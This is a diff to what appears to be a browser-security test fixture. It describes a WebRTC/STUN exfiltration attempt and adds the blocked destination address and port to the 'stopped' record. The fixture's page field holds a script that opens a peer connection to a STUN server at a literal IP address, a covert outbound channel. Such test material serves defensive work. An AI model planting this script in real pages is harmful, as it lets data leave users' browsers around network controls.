@@ -13,7 +13,13 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["RFC 8489", "RFC 8828"],
     "arrives": [{"what": "udp", "port": 3478}],
-    "stopped": [{"reason": ["literal-address"], "entry": ["udp"]}],
+    "stopped": [
+        {
+            "reason": ["literal-address"],
+            "entry": ["udp"],
+            "where": {"address": "93.184.216.66", "port": "3478"},
+        }
+    ],
     "page": "<h1>Call</h1><script>const peer = new RTCPeerConnection({iceServers: [{urls: "
     "'stun:93.184.216.66:3478'}]});peer.createDataChannel('x'); "
     "peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>",
